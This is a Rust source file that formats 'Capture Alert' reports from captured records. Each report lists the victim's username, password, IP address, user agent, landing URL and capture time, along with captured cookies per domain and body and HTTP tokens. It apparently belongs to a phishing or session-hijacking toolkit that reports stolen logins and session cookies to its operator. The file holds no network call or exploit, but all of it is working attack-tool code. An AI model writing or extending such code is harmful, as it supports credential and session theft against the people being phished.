//! Plain-text capture reports

use crate::CapturedRecord;
use chrono::{DateTime, Local, Utc};

/// First line of every report
pub const BANNER: &str = "🚨 *Capture Alert* 🚨";

/// Layout of the capture time line
pub const TIME_FORMAT: &str = "%Y-%m-%d %H:%M:%S";

/// Time zone the capture time is rendered in
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ReportTimeZone {
    /// The host's local time zone
    #[default]
    Local,
    Utc,
}

/// Renders a [`CapturedRecord`] as a report.
///
/// Field values are inserted verbatim. Collections are listed in key order and
/// a section is left out entirely when its collection is empty.
#[derive(Debug, Clone, Copy, Default)]
pub struct ReportFormatter {
    time_zone: ReportTimeZone,
}

impl ReportFormatter {
    /// Formatter rendering times in local time
    pub fn new() -> Self {
        Self::default()
    }

    /// Formatter rendering times in UTC
    pub fn utc() -> Self {
        Self::with_time_zone(ReportTimeZone::Utc)
    }

    pub fn with_time_zone(time_zone: ReportTimeZone) -> Self {
        Self { time_zone }
    }

    pub fn time_zone(&self) -> ReportTimeZone {
        self.time_zone
    }

    /// Build the report text for one record
    pub fn format(&self, record: &CapturedRecord) -> String {
        let mut lines = vec![BANNER.to_string(), String::new()];

        lines.push(format!("*Source:* {}", record.source));
        lines.push(format!("*Username:* {}", record.principal));
        if record.has_secret() {
            lines.push(format!("*Password:* {}", record.secret));
        }
        lines.push(format!("*Remote IP:* {}", record.origin_address));
        lines.push(format!("*User Agent:* {}", record.client_descriptor));
        lines.push(format!("*Landing URL:* {}", record.landing_reference));
        lines.push(format!(
            "*Capture Time:* {}",
            self.format_time(record.completed_at)
        ));

        push_section(
            &mut lines,
            "*Cookies Captured:*",
            record
                .cookie_counts()
                .map(|(domain, count)| format!("  `{}`: {} cookies", domain, count)),
        );
        push_section(
            &mut lines,
            "*Body Tokens Captured:*",
            key_value_lines(record.body_tokens.iter()),
        );
        push_section(
            &mut lines,
            "*HTTP Tokens Captured:*",
            key_value_lines(record.http_tokens.iter()),
        );
        push_section(
            &mut lines,
            "*Custom Data:*",
            key_value_lines(record.custom.iter()),
        );

        let mut report = lines.join("\n");
        report.push('\n');
        report
    }

    /// Render epoch seconds as `YYYY-MM-DD HH:MM:SS`.
    ///
    /// Seconds outside chrono's range come back as the raw number.
    pub fn format_time(&self, seconds: i64) -> String {
        let Some(utc) = DateTime::<Utc>::from_timestamp(seconds, 0) else {
            return seconds.to_string();
        };

        match self.time_zone {
            ReportTimeZone::Local => utc.with_timezone(&Local).format(TIME_FORMAT).to_string(),
            ReportTimeZone::Utc => utc.format(TIME_FORMAT).to_string(),
        }
    }
}

fn key_value_lines<'a>(
    entries: impl Iterator<Item = (&'a String, &'a String)> + 'a,
) -> impl Iterator<Item = String> + 'a {
    entries.map(|(key, value)| format!("  `{}`: {}", key, value))
}

fn push_section(lines: &mut Vec<String>, title: &str, entries: impl Iterator<Item = String>) {
    let mut entries = entries.peekable();
    if entries.peek().is_none() {
        return;
    }

    lines.push(String::new());
    lines.push(title.to_string());
    lines.extend(entries);
}
